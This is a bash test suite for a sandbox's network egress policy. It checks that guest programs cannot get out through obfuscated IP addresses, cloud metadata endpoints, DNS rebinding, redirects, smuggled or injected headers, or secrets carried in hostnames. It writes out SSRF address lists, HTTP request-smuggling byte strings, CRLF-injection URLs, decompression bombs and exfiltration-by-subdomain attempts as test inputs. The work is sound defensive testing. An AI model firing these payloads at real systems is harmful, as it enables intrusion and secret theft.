#!/usr/bin/env bash
# What a guest may try to get out with, through the command line: at level wasm by
# fetch.wasm, at levels process and container by ordinary clients.  Runs in tests/net/run,
# where every address in the world is this machine: whoever is reached writes it down, and
# that is what a denial is judged by.  Each denial has its control beside it, which arrives.
source "$(dirname "$0")/egress_lib.sh"

N01_numbers_that_some_reader_takes_for_an_address() {
  both allow-all
  each_level stays_in http://2130706433/ http://0x7f000001/ http://017700000001/ \
    http://127.1/ http://0x7f.1/ http://0177.0.0.1/ http://127.0.0.1/ \
    http://167772165/ http://10.5/ http://0xa9fea9fe/
  way=direct stays_in native http://2130706433/
  each_level arrives http://93.184.216.34/
}

N02_mapped_addresses() {
  both allow-all
  each_level stays_in 'http://[::ffff:127.0.0.1]/' 'http://[::ffff:7f00:1]/' \
    'http://[::ffff:10.0.0.5]/' 'http://[::ffff:93.184.216.34]/' \
    http://mapped.example.com/
  each_level arrives 'http://[2606:2800:220:1:248:1893:25c8:1946]/'
}

N03_addresses_that_carry_another() {
  both allow-all
  each_level stays_in 'http://[64:ff9b::7f00:1]/' 'http://[2002:7f00:1::]/' \
    'http://[2001:0:4136:e378:8000:63bf:3fff:fdd2]/' 'http://[::127.0.0.1]/' \
    'http://[2606:2800:220:1:0:5efe:7f00:1]/' http://nat64.example.com/ \
    http://six-to-four.example.com/ http://teredo.example.com/
}

N04_nothing_as_an_address() {
  both allow-all
  each_level stays_in http://0/ http://0.0.0.0/ 'http://[::]/' http://zero.example.com/ \
    http://loop.example.com/ http://loop6.example.com/ 'http://[::1]/'
}

N05_where_clouds_answer_secrets() {
  both allow-all
  each_level stays_in http://169.254.169.254/latest/meta-data/ 'http://[fd00:ec2::254]/' \
    http://168.63.129.16/ http://metadata.example.com/ http://metadata6.example.com/ \
    http://azure.example.com/ http://100.100.100.200/
  # The word that opens private ranges does not open these.
  ssrf='block_private_ips: false' both allow-all
  each_level stays_in http://169.254.169.254/ 'http://[fd00:ec2::254]/' \
    http://127.0.0.1/ http://loop.example.com/ 'http://[fe80::1]/'
  each_level arrives http://10.0.0.5/
  each_level arrives http://inside.example.com/
}

N06_the_edges_of_ranges() {
  local address
  both allow-all
  for address in 9.255.255.255 11.0.0.0 100.63.255.255 100.128.0.0 126.255.255.255 \
    128.0.0.0 169.253.255.255 169.255.0.0 172.15.255.255 172.32.0.0 192.167.255.255 \
    192.169.0.0 198.17.255.255 198.20.0.0 223.255.255.255 \
    '[2001:4860::1]' '[2003::1]' '[2a00::1]'; do
    arrives wasm "http://$address/"
  done
  for address in 0.255.255.255 10.0.0.0 10.255.255.255 100.64.0.0 100.127.255.255 \
    127.0.0.0 127.255.255.255 169.254.0.0 169.254.255.255 172.16.0.0 172.31.255.255 \
    192.0.0.1 192.0.2.1 192.168.0.0 192.168.255.255 198.18.0.0 198.19.255.255 \
    198.51.100.1 203.0.113.1 224.0.0.0 239.255.255.255 240.0.0.0 255.255.255.255 \
    '[fc00::]' '[fdff:ffff:ffff:ffff:ffff:ffff:ffff:ffff]' '[fe80::]' '[febf::1]' \
    '[ff00::]' '[ff02::1]' '[2001:db8::1]' '[100::1]' '[2002::1]' '[3fff::1]' '[5f00::1]'; do
    stays_in wasm "http://$address/"
  done
}

N07_one_form_of_a_name() {
  local level
  both allowlist API.Example.com
  for level in "${levels[@]}"; do
    arrives "$level" http://api.EXAMPLE.com/
    is "requests by the one name" "$(count_requests api.example.com /)" 1
    is "and spelt so" "$(grep -c '"host": "api.example.com"' "$NACRE_NET_LOG")" 1
  done
  arrives wasm http://api.example.com./
  is "requests without the dot" "$(grep -c '"host": "api.example.com"' "$NACRE_NET_LOG")" 1
  both allow-all
  each_level stays_in http://localhost/ http://localhost./ http://LOCALHOST/ \
    http://foo.localhost/ http://localhost.localdomain/ http://ip6-localhost/
  is "queries for localhost" "$(count_queries localhost)" 0
}

N08_control_characters_in_a_name() {
  both allow-all
  stays_in wasm $'http://api.example.com\r\nX-Evil: 1/'
  stays_in wasm $'http://api.example.com\tother.example.org/'
  stays_in wasm 'http://api.example.com%00.other.example.org/'
  stays_in wasm 'http://api.example.com%0d%0aX:1/'
  if asks_modules; then stays_in wasm 'http://api%2eexample.com/'; fi # curl decodes it
  stays_in wasm 'http://api.example.com /'
  arrives wasm 'http://api.example.com/%0d%0a'
}

N09_a_name_that_changes_its_address() {
  local level
  both allowlist rebind.example.com
  for level in "${levels[@]}"; do
    cp "$net/dns.json" "$NACRE_NET_DNS"
    arrives "$level" http://rebind.example.com/
    is "queries" "$(count_queries rebind.example.com A)" 1
    is "connections to the first answer" "$(count_connections 93.184.216.34)" 1
    # Asked anew it is loopback, and refused as such.
    stays_in "$level" http://rebind.example.com/
  done
  cp "$net/dns.json" "$NACRE_NET_DNS"
  # From one hop to the next as well.
  ask wasm 'http://rebind.example.com/redirect?to=http://rebind.example.com/secret'
  [[ $status != 0 ]] || is "connections to loopback" "$(count_connections 127.0.0.1)" 0
  is "requests for the second" "$(count_events event=request path=/secret address=127.0.0.1)" 0
}

N10_public_and_private_answers_together() {
  both allow-all
  each_level stays_in http://mixed.example.com/ http://mixed6.example.com/ \
    https://mixed.example.com/ http://alias-inside.example.com/
  each_level arrives http://alias.example.com/
  each_level stays_in http://silent.example.com/ http://broken.example.com/ \
    http://empty.example.com/ http://nowhere.example.com/
}

N11_redirects_to_what_is_not_allowed() {
  local level code to
  both allowlist api.example.com loop.example.com inside.example.com other.example.org
  for level in "${levels[@]}"; do
    for code in 301 302 303 307 308; do
      ask "$level" "http://api.example.com/redirect?code=$code&to=http://10.0.0.5/x" \
        $([[ $level == wasm ]] || echo -L)
      [[ $status != 0 ]] || fail "redirected to a private address"
      is "connections in all" "$(count_connections)" 1
    done
    for to in http://169.254.169.254/ http://127.0.0.1:80/ http://loop.example.com/ \
      http://inside.example.com/ http://six.example.com/ //10.0.0.5/ http://2130706433/ \
      'http://[::ffff:127.0.0.1]/' gopher://api.example.com/ file:///etc/passwd; do
      ask "$level" "http://api.example.com/redirect?to=$to" \
        $([[ $level == wasm ]] || echo -L)
      [[ $status != 0 ]] || fail "redirected to $to"
      is "connections to $to" "$(count_connections)" 1
    done
    ask "$level" "http://api.example.com/redirect?to=http://other.example.org/x" \
      $([[ $level == wasm ]] || echo -L)
    expect_status 0
    is "requests at the allowed end" "$(count_requests other.example.org /x)" 1
  done
  asks_modules || return 0 # a native client follows by itself
  ask wasm 'http://api.example.com/loop?n=50'
  [[ $status != 0 ]] || fail "redirected without end"
  checks=$((checks + 1))
  (($(count_requests) <= 21)) || fail "$(count_requests) redirects followed"
}

N14_a_server_that_passes_a_secret_on() {
  both allowlist api.example.com other.example.org
  sed -i 's/^  resource/    secrets: {injection: host-boundary}\n  resource/' wasm.yaml native.yaml
  printf 'value-of-the-key' >value
  run secret set KEY --file value --host api.example.com --grant any
  expect_status 0
  local to='https://other.example.org/?k={{secret:KEY}}'
  net_reset
  if asks_modules; then
    run run --policy wasm.yaml --secret KEY "$GUEST" \
      "https://api.example.com/redirect?to=$to"
    expect_err_has "fetch: leak: The server redirects: "
    is "the host it is bound to" "$(count_requests api.example.com)" 1
    is "the other" "$(count_requests other.example.org)" 0
  fi
  net_reset
  run run "${native[@]}" --secret KEY -- \
    curl -sSgLm 9 "http://api.example.com/redirect?to=$to"
  is "the host it is bound to" "$(count_requests api.example.com)" 1
  is "values at the other" "$(grep -c '"host": "other.*value-of-the-key' "$NACRE_NET_LOG")" 0
  run audit tail --json -n 2
  expect_out_lacks value-of-the-key
}

# A run that was given a stand-in has that and its time, not the secret's name.
S10_a_token_is_no_leave_to_name_the_secret() {
  network native native.yaml allowlist api.example.com
  sed -i 's/^  resource/    secrets: {injection: host-boundary}\n  resource/' native.yaml
  printf 'value-of-the-key' >value
  run secret set KEY --file value --host api.example.com --grant any
  expect_status 0
  local text='
    curl -s -H "X-Key: $KEY" http://api.example.com/in-time
    sleep 1.5
    curl -s -H "X-Key: $KEY" http://api.example.com/late
    curl -s -H "X-Key: {{secret:KEY}}" http://api.example.com/named'
  net_reset
  warm --token KEY
  run run "${native[@]}" --token KEY --token-ttl-ms 1200 -- sh -c "$text"
  expect_out_has "token for secret KEY has expired"
  expect_out_has "no secret of the name KEY"
  is "in its time" "$(count_events event=request path=/in-time \
    header:x-key=value-of-the-key)" 1
  is "requests in all" "$(count_requests)" 1
  # Nor has one of a session in which somebody else's token lives.
  run secret token KEY --scope session:s
  expect_status 0
  net_reset
  run run "${native[@]}" --session s -- sh -c "$text"
  is "requests with the value" "$(count_events event=request \
    header:x-key=value-of-the-key)" 0
  # Asked for by name as well, both are good.
  run run "${native[@]}" --secret KEY --token KEY -- sh -c "$text"
  is "by name" "$(count_events event=request path=/named header:x-key=value-of-the-key)" 1
}

S03_names_and_methods_carry_no_value_out() {
  network native native.yaml allowlist '*.wild.example.com'
  sed -i 's/^  resource/    secrets: {injection: environment, leak_detection: {enabled: true}}\n&/' \
    native.yaml
  printf 'value-of-the-key' >value
  run secret set KEY --file value --host api.example.com --grant any
  printf 'VALUE-LETTERS' >value
  run secret set LETTERS --file value --host api.example.com --grant any
  expect_status 0
  net_reset
  # What is in a tunnel is not looked at, by leave; but who is called is said outside of it.
  run run --waive tunnel-scan "${native[@]}" --secret KEY -- sh -c '
    curl -skm 9 "https://$KEY.wild.example.com/"
    curl -skm 9 --noproxy "*" "https://x$KEY.wild.example.com/"'
  is "queries" "$(count_queries)" 0
  is "connections" "$(count_connections)" 0
  run audit tail --json -n 1
  expect_out_has '"code":"leak"'
  expect_out_lacks value-of-the-key
  run run "${native[@]}" --secret LETTERS -- sh -c '
    curl -sm 9 -X "$LETTERS" http://a.wild.example.com/; :'
  is "methods" "$(count_connections)" 0
  run run --waive tunnel-scan "${native[@]}" --secret KEY -- \
    curl -skm 9 https://a.wild.example.com/
  expect_status 0
  is "the control's connections" "$(count_connections)" 1
}

N13_https_never_goes_down_to_http() {
  asks_modules || return 0 # in a tunnel it is the client's own affair
  both allowlist api.example.com
  ask wasm 'https://api.example.com/redirect?to=http://api.example.com/x'
  [[ $status != 0 ]] || fail "it went down"
  is "connections in the clear" "$(count_events event=connect port=80)" 0
  arrives wasm 'https://api.example.com/redirect?to=https://api.example.com/x'
  arrives wasm 'http://api.example.com/redirect?to=https://api.example.com/x'
}

N37_a_stranger_with_a_certificate_of_his_own() {
  local name
  both allowlist '*.example.com'
  for name in untrusted expired misnamed; do
    ask wasm "https://$name.example.com/"
    [[ $status != 0 ]] || fail "$name was trusted"
    is "requests to $name" "$(count_requests)" 0
  done
  arrives wasm https://api.example.com/
  is "the name in the hello" "$(count_events event=tls sni=api.example.com)" 1
}

N15_urls_that_two_readers_read_differently() {
  local url
  asks_modules || return 0 # a client reads them before the door does; N39 has raw bytes
  both allowlist api.example.com other.example.org
  for url in http://user:pw@api.example.com/ http://api.example.com@other.example.org/ \
    'http://api.example.com\@other.example.org/' http:///api.example.com/ \
    http:/api.example.com/ http://api.example.com#@other.example.org/ \
    'http:\\api.example.com\' http://api.example.com:80:81/ http://api.example.com:/x/ \
    http://api.example.com:0/ http://api.example.com:65616/ http://[api.example.com]/ \
    //api.example.com/ api.example.com '' http:// 'http://?x' 'http://api..example.com/' \
    'http://.api.example.com/' "http://$(printf 'a%.0s' {1..64}).example.com/"; do
    stays_in wasm "$url"
  done
  arrives wasm 'http://api.example.com/a@b:c?x=http://other.example.org/'
}

N16_letters_that_look_like_others() {
  both allow-all
  # Full-width digits, and 127.0.0.1 in circled ones.
  stays_in wasm $'http://\xef\xbc\x91\xef\xbc\x92\xef\xbc\x97.0.0.1/'
  stays_in wasm $'http://\xe2\x91\xa0\xe2\x91\xa1\xe2\x91\xa6.0.0.1/'
  stays_in wasm $'http://127\xe3\x80\x820\xe3\x80\x820\xe3\x80\x821/'
  stays_in wasm $'http://lo\xc2\xadcalhost/'
  both allowlist api.example.com
  stays_in wasm $'http://\xd0\xb0pi.example.com/' # a Cyrillic a
  both allowlist xn--bcher-kva.example.com
  arrives wasm http://xn--bcher-kva.example.com/
}

N17_what_a_star_stands_for() {
  local word
  both allowlist '*.wild.example.com'
  each_level arrives http://a.wild.example.com/ http://a.b.wild.example.com/
  each_level stays_in http://wild.example.com/ http://api.example.com/ \
    http://a.wild.example.com.other.example.org/ http://notwild.example.com/
  for word in '*' '*.' 'a.*.com' '*example.com' '*.*.com' '**.example.com'; do
    network wasm bad.yaml allowlist "$word"
    run check bad.yaml
    expect_status 125
    expect_err_has "bad.yaml:10:11: "
  done
}

N18_the_hosts_own_proxies_and_passwords() {
  local level
  cold
  both allowlist api.example.com
  printf 'machine api.example.com login root password hunter2\n' >"$HOME/.netrc"
  chmod 600 "$HOME/.netrc"
  export http_proxy=http://151.101.1.69:8080 https_proxy=http://151.101.1.69:8080 \
    HTTP_PROXY=http://151.101.1.69:8080 ALL_PROXY=http://151.101.1.69:8080
  export SSL_CERT_FILE=/nonexistent CURL_HOME=$HOME
  for level in "${levels[@]}"; do
    arrives "$level" https://api.example.com/
    is "connections to the proxy" "$(count_connections 151.101.1.69)" 0
    is "passwords sent" "$(count_events event=request 'header:authorization=*')" 0
  done
}

N19_headers_that_speak_for_somebody_else() {
  local header
  both allowlist api.example.com
  # The proxy's name is the URL's, whatever Host says.
  ask native http://api.example.com/echo -H 'Host: other.example.org'
  is "hosts spelt otherwise" "$(count_events event=request host=other.example.org)" 0
  asks_modules || return 0 # a client keeps to HTTP; N39 has raw bytes
  for header in 'Host: other.example.org' 'Transfer-Encoding: chunked' \
    'Content-Length: 5' $'X: 1\r\nHost: other.example.org' 'Connection: upgrade' \
    $'X\x01: 1' ' X: 1' 'X : 1' 'Proxy-Authorization: Basic eDp5'; do
    ask wasm http://api.example.com/echo -H "$header"
    is "hosts spelt otherwise" "$(count_events event=request host=other.example.org)" 0
    is "lengths of the guest's" "$(count_events event=request header:content-length=5)" 0
    is "codings of the guest's" \
      "$(count_events event=request header:transfer-encoding=chunked)" 0
    is "for the proxy" "$(count_events event=request 'header:proxy-authorization=*')" 0
  done
  arrives wasm http://api.example.com/echo -H 'X-Mine: 1'
  is "an ordinary header" "$(count_events event=request header:x-mine=1)" 1
}

N21_other_schemes() {
  both allow-all
  each_level stays_in gopher://93.184.216.34:80/_x ftp://93.184.216.34/ \
    dict://93.184.216.34:80/x ws://93.184.216.34/ telnet://93.184.216.34:80/
  if asks_modules; then
    stays_in wasm file:///etc/passwd
    expect_out_lacks root
  fi
  stays_in wasm data:text/plain,x
}

N22_ports_that_nobody_allowed() {
  both allowlist api.example.com
  each_level stays_in http://api.example.com:8080/ https://api.example.com:8443/ \
    http://api.example.com:22/ http://api.example.com:6379/
  both allowlist api.example.com:8080
  each_level arrives http://api.example.com:8080/
  each_level stays_in http://api.example.com/ https://api.example.com/
}

N24_names_that_carry_data() {
  both allowlist api.example.com
  net_reset
  each_level stays_in http://c2VjcmV0.other.example.org/ http://c2VjcmV0.api.example.com/
  is "queries" "$(count_queries)" 0
  run run "${native[@]}" -- getent hosts c2VjcmV0.other.example.org
  [[ $status != 0 ]] || fail "resolved"
  run run "${native[@]}" -- python3 -c '
import socket
for where in ("8.8.8.8", "127.0.0.53", "93.184.216.34", "::1"):
    family = socket.AF_INET6 if ":" in where else socket.AF_INET
    try:
        socket.socket(family, socket.SOCK_DGRAM).sendto(b"\0" * 20, (where, 53))
    except OSError:
        pass'
  sleep 0.2
  is "queries" "$(count_queries)" 0
  is "datagrams" "$(count_datagrams)" 0
  arrives wasm http://api.example.com/
  is "queries of the control" "$(count_queries api.example.com A)" 1
}

N25_an_allowlist_without_hosts() {
  both allowlist
  each_level stays_in http://api.example.com/
  both deny api.example.com
  each_level stays_in http://api.example.com/
  asks_modules || return 0
  printf 'claw: "0.3.0"\nkind: Sandbox\nmetadata: {name: t}\nspec:\n  level: wasm\n' >wasm.yaml
  printf '  capabilities:\n    network:\n      mode: allowlist\n      allowed_hosts: []\n' \
    >>wasm.yaml
  stays_in wasm http://api.example.com/
  sed -i 's/allowed_hosts: .*/allowed_hosts: null/' wasm.yaml
  run check wasm.yaml
  expect_status 125
  network wasm wasm.yaml allowlist api.example.com
  sed -i 's/allowlist/alowlist/' wasm.yaml
  run run --policy wasm.yaml "$GUEST" http://api.example.com/
  expect_status 125
  run run "$GUEST" http://api.example.com/ # no policy at all
  [[ $status != 0 ]] || fail "let out without a policy"
  is "connections" "$(count_connections)" 0
}

N26_servers_that_are_slow_or_have_no_end() {
  local path start
  both allowlist api.example.com
  local paths=("huge?n=100000000" "big-headers?n=2000000")
  # To a native client its answers are handed on as they come; see also below.
  if asks_modules; then
    paths+=("gzip-bomb?n=2000000000" "deflate-bomb?n=2000000000")
  fi
  for path in "${paths[@]}"; do
    ask wasm "http://api.example.com/$path"
    [[ $status != 0 ]] || fail "/$path was taken whole"
    (($(stat -c %s "$scratch/out") <= 80000000)) || fail "/$path came through"
  done
  timeout_ms=1500 both allowlist api.example.com silent.example.com
  warm
  for path in api.example.com/stall "api.example.com/drip?n=1000&ms=50" silent.example.com/; do
    start=$(date +%s%N)
    ask wasm "http://$path"
    [[ $status != 0 ]] || fail "$path came to an end"
    (($(date +%s%N) - start < 4000000000)) || fail "$path held the run up"
  done
  ask wasm http://api.example.com/close-midway
  [[ $status != 0 ]] || fail "half a body was taken for a whole one"
  ask wasm http://api.example.com/chunked
  expect_status 0
  expect_out_has "piece 9"
}

# door_of PID: sets `door` once the run has one.
door_of() {
  local child
  door=
  for child in $(below "$1"); do
    if [[ $(cat /proc/"$child"/comm 2>/dev/null) == nacre-door ]]; then door=$child; fi
  done
  [[ $door ]]
}

N26_answers_that_nobody_reads() {
  local peak most bomb
  timeout_ms=9000 network native native.yaml allowlist api.example.com
  sed -i 's/^    shell:/    secrets: {leak_detection: {enabled: true}}\n    shell:/' native.yaml
  printf 'a-value-that-is-looked-for' >value
  run secret set KEY --file value --host api.example.com --grant any
  expect_status 0
  # 5 MB each in 5 KB, decoded before they are scrubbed; and no one takes them.
  bomb=$(python3 -c '
import base64, gzip, urllib.parse
body = gzip.compress(bytes(5000000), 9)
head = b"HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\nContent-Length: %d\r\n\r\n" % len(body)
print(urllib.parse.quote(base64.b64encode(head + body).decode()))')
  start run "${native_once[@]}" --secret KEY -- python3 -c '
import os, socket, sys, time
where = os.environ["HTTP_PROXY"].split("//")[1].rstrip("/").split(":")
text = "GET http://api.example.com/raw?base64=%s HTTP/1.1\r\nHost: api.example.com\r\n\r\n"
open_ones = [socket.create_connection((where[0], int(where[1]))) for _ in range(200)]
for one in open_ones:
    one.sendall((text % sys.argv[1]).encode())
print("all asked", flush=True)
time.sleep(60)' "$bomb"
  until_true 5 door_of "$pid" || fail "no door"
  until_true 8 grep -q asked "$scratch/out" || fail "not asked"
  sleep 4
  peak=$(sed -n 's/^VmHWM:[[:space:]]*\([0-9]*\) kB/\1/p' "/proc/$door/status")
  finish
  expect_status 124
  checks=$((checks + 1))
  # Under the address sanitizer what is freed stays for a while, and all has a margin.
  most=$((512 * 1024 * ${NACRE_SANITIZED:+3 *} 1))
  ((peak > 0 && peak < most)) || fail "the door took $peak KiB"
  until_true 2 is_gone "$door" || fail "the door stays"
}

N41_what_a_server_did_not_answer_is_not_sent_again() {
  both allowlist api.example.com
  net_reset
  run run --json "${native[@]}" -- sh -c '
    for turn in 1 2; do curl -sm 9 -d body http://api.example.com/once; done'
  expect_out_has "Whether it took the request is not known"
  is "what was posted natively" "$(count_events event=request method=POST)" 2
  asks_modules || return 0
  net_reset
  run run --json --policy wasm.yaml "$GUEST" -n 2 -X POST -d body http://api.example.com/once
  expect_out_has "Whether it took the request is not known"
  expect_out_has '"egress_seen":2'
  is "what was posted" "$(count_events event=request method=POST)" 2
  # What only reads is, and counts as often as it was sent.
  net_reset
  run run --json --policy wasm.yaml "$GUEST" -n 2 http://api.example.com/once
  expect_status 0
  expect_out_has '"egress_seen":3'
  is "what was read" "$(count_requests)" 3
}

# Whoever is called is told, also when nothing is said to it.
N42_calls_without_a_word_are_told() {
  network native native.yaml allowlist api.example.com
  net_reset
  run run --json "${native[@]}" -- python3 -c '
import os, socket
where = os.environ["HTTP_PROXY"].split("//")[1].rstrip("/").split(":")
for _ in range(3):
    one = socket.create_connection((where[0], int(where[1])))
    one.sendall(b"CONNECT api.example.com:443 HTTP/1.1\r\nHost: api.example.com:443\r\n\r\n")
    assert b" 200 " in one.recv(100)
    one.close()'
  expect_status 0
  expect_json
  expect_out_has '"egress_seen":3'
  is "connections" "$(count_connections)" 3
  run audit tail --json -n 1
  expect_out_has '"egress_seen":3'
}

N30_nothing_is_carried_from_one_tool_to_another() {
  asks_modules || return 0 # cookies are a client's own there
  both allowlist api.example.com
  ask wasm http://api.example.com/set-cookie -n 2
  expect_status 0
  is "requests" "$(count_requests)" 2
  is "cookies sent back" "$(count_events event=request 'header:cookie=*')" 0
  net_reset
  run run --policy wasm.yaml "$GUEST" http://api.example.com/
  run run --policy wasm.yaml "$GUEST" http://api.example.com/
  is "connections of two runs" "$(count_connections)" 2
}

N33_anything_but_http_from_a_native_tool() {
  both allow-all
  net_reset
  run run "${native[@]}" -- python3 -c '
import socket, sys
reached = []
def attempt(what, function):
    try:
        function()
        reached.append(what)
    except OSError:
        pass
def udp(address, port):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.connect((address, port))
    s.send(b"x" * 16)
def tcp(address, port):
    s = socket.create_connection((address, port), 2)
    s.send(b"x\r\n\r\n")
def raw():
    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP).sendto(
        b"\x08\0\xf7\xff\0\0\0\0", ("93.184.216.34", 0))
for port in (53, 123, 443):
    attempt(f"udp {port}", lambda: udp("93.184.216.34", port))
for port in (22, 25, 80, 443, 6379):
    attempt(f"tcp {port}", lambda: tcp("93.184.216.34", port))
attempt("icmp", raw)
attempt("packet", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW))
print(*reached, sep=",")'
  expect_status 0
  expect_out ""
  sleep 0.2
  is "connections" "$(count_connections)" 0
  is "datagrams" "$(count_datagrams)" 0
  arrives native http://93.184.216.34/
}

N34_clients_that_know_no_proxy() {
  both allowlist api.example.com
  way=direct arrives native http://api.example.com/
  way=direct arrives native https://api.example.com/
  way=direct stays_in native http://other.example.org/
  way=direct stays_in native https://other.example.org/
  # Another name in the hello than the one that was asked for, and none at all.
  way=direct stays_in native https://other.example.org/ \
    --resolve other.example.org:443:127.0.0.1
  net_reset
  run run "${native[@]}" -- sh -c '
    address=$(getent hosts api.example.com | cut -d" " -f1)
    echo | timeout 5 openssl s_client -noservername -connect "$address:443" 2>&1
    echo | timeout 5 openssl s_client -servername other.example.org \
      -connect "$address:443" 2>&1
    timeout 5 curl -sS --noproxy "*" -H "Host: other.example.org" "http://$address/"'
  is "connections" "$(count_connections)" 0
  net_reset
  run run "${native[@]}" -- python3 -c '
import urllib.request
urllib.request.install_opener(
    urllib.request.build_opener(urllib.request.ProxyHandler({})))
print(urllib.request.urlopen("https://api.example.com/", timeout=10).status)'
  expect_status 0
  expect_out 200
  # CONNECT to one name, a hello for another.
  net_reset
  run run "${native[@]}" -- sh -c '
    (printf "CONNECT api.example.com:443 HTTP/1.1\r\nHost: api.example.com:443\r\n\r\n"
     sleep 1) | timeout 5 openssl s_client -proxy 127.0.0.1:3128 \
      -connect api.example.com:443 -servername other.example.org 2>&1'
  is "hellos for another name" "$(count_events event=tls sni=other.example.org)" 0
}

# by_client OPTION...: git, Python and node, by the proxy where they know one and by name;
# each fetches the page, or the first line of a repository, once.
by_client() {
  local text direct='unset HTTP_PROXY HTTPS_PROXY http_proxy https_proxy;'
  local python='python3 -c "import urllib.request as u
print(u.urlopen(\"https://api.example.com/\", timeout=10).read().decode())"'
  local node="node -e 'fetch(\"https://api.example.com/\").then(r => r.text())
.then(console.log)'"
  local git='git ls-remote https://api.example.com/files/repo.git HEAD'
  for text in "curl -sSfm 9 https://api.example.com/" "$python" "$direct $python" \
    "$direct $node" "$git" "$direct $git"; do
    net_reset
    run run "${native[@]}" "$@" -- sh -c "$text"
    expect_status 0
    case $text in *git*) expect_out_has HEAD ;; *) expect_out_has "nacre test server" ;; esac
    is "in the clear by $text" "$(count_events event=request tls=false)" 0
  done
}

N40_clients_of_every_kind_by_tunnel_and_looked_into() {
  local key
  git init -q -b main work
  git -C work -c user.name=n -c user.email=e commit -q --allow-empty -m "a commit"
  rm -rf "$NACRE_NET_FILES/repo.git"
  git clone -q --bare work "$NACRE_NET_FILES/repo.git"
  git -C "$NACRE_NET_FILES/repo.git" update-server-info
  both allowlist api.example.com
  # Node has its own certificates, and is told of others.
  key=NODE_EXTRA_CA_CERTS=/etc/ssl/certs/ca-certificates.crt
  by_client --env "$key"
  secrets='leak_detection: {enabled: true}' both allowlist api.example.com
  by_client --intercept api.example.com
}

# What reaches the proxy need not come from a client that means well.
N39_raw_bytes_to_the_proxy() {
  both allowlist api.example.com
  cat >raw.py <<'PYTHON'
import socket
CASES = [
    b"GET http://other.example.org/ HTTP/1.1\r\nHost: api.example.com\r\n\r\n",
    b"GET http://api.example.com@other.example.org/ HTTP/1.1\r\nHost: api.example.com\r\n\r\n",
    b"GET http://other.example.org\\@api.example.com/ HTTP/1.1\r\nHost: api.example.com\r\n\r\n",
    b"GET //other.example.org/ HTTP/1.1\r\nHost: other.example.org\r\n\r\n",
    b"GET / HTTP/1.1\r\nHost: other.example.org\r\n\r\n",
    b"GET http://api.example.com/ HTTP/1.1\r\nHost: api.example.com\r\nContent-Length: 4\r\n"
    b"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET http://other.example.org/smuggled HTTP/1.1\r\n"
    b"Host: other.example.org\r\n\r\n",
    b"POST http://api.example.com/first HTTP/1.1\r\nHost: api.example.com\r\nContent-Length: 0\r\n"
    b"Content-Length: 60\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: api.example.com\r\n\r\n",
    b"GET http://api.example.com/ HTTP/1.1\r\nHost: api.example.com\r\nX: 1\nHost: other.example.org\r\n\r\n",
    b"GET http://api.example.com/ HTTP/1.1\r\nHost : other.example.org\r\n\r\n",
    b"GET http://api.example.com/\x00 HTTP/1.1\r\nHost: api.example.com\r\n\r\n",
    b"GET http://api.example.com/ HTTP/1.1 x\r\n\r\n",
    b"CONNECT other.example.org:443 HTTP/1.1\r\nHost: api.example.com:443\r\n\r\n",
    b"CONNECT 93.184.216.34:443 HTTP/1.1\r\nHost: api.example.com:443\r\n\r\n",
    b"CONNECT api.example.com:22 HTTP/1.1\r\nHost: api.example.com:22\r\n\r\n",
    b"CONNECT api.example.com HTTP/1.1\r\nHost: api.example.com\r\n\r\n",
    b"CONNECT api.example.com:443 HTTP/1.1\r\nHost: api.example.com:443\r\n\r\n"
    b"GET / HTTP/1.1\r\nHost: other.example.org\r\n\r\n",  # no hello
    b"CONNECT http://api.example.com:443/ HTTP/1.1\r\n\r\n",
    b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", b"\x05\x01\x00", b"\x04\x01\x00\x50\x5d\xb8\xd8\x22\x00",
    b"GET " + b"a" * 200000 + b" HTTP/1.1\r\n\r\n",
    b"GET http://api.example.com/ HTTP/1.1\r\n" + b"X: y\r\n" * 50000 + b"\r\n",
    b"TRACE http://169.254.169.254/ HTTP/1.1\r\nHost: api.example.com\r\n\r\n",
]
for number, case in enumerate(CASES):
    with socket.create_connection(("127.0.0.1", 3128), 3) as peer:
        peer.settimeout(1)
        try:
            peer.sendall(case)
            while peer.recv(65536):
                pass
        except OSError:
            pass
print("sent", len(CASES))
PYTHON
  net_reset
  run run "${native[@]}" -- python3 -c "$(<raw.py)"
  expect_status 0
  expect_out "sent 23"
  is "requests to another" "$(count_requests other.example.org)" 0
  is "requests that nobody made" "$(count_events event=request path=/smuggled)" 0
  is "connections to ssh" "$(count_connections '' 22)" 0
  is "connections to others" "$(count_connections 151.101.1.69)$(count_connections \
    2a04:4e42::133)$(count_connections 169.254.169.254)" 000
  is "queries for others" "$(count_queries other.example.org)" 0
  is "hellos" "$(count_events event=tls)" 0
  arrives native http://api.example.com/
}

N36_a_refusal_tells_what_to_do() {
  both allowlist api.example.com
  ask native http://other.example.org/ --no-fail
  expect_out_has "other.example.org is denied"
  expect_out_has "allowed: api.example.com"
  if asks_modules; then
    ask wasm https://other.example.org/
    expect_status 1
    expect_err_has "fetch: denied: other.example.org is denied"
    expect_err_has "allowed: api.example.com"
    run run --json --policy wasm.yaml "$GUEST" https://other.example.org/
  else
    run run --json "${native[@]}" -- curl -s https://other.example.org/
  fi
  expect_json
  expect_out_has '"code":"host-not-allowed"'
  expect_out_has '"sent":false'
  run audit tail --json -n 1
  expect_out_has '"host":"other.example.org"'
}

cases
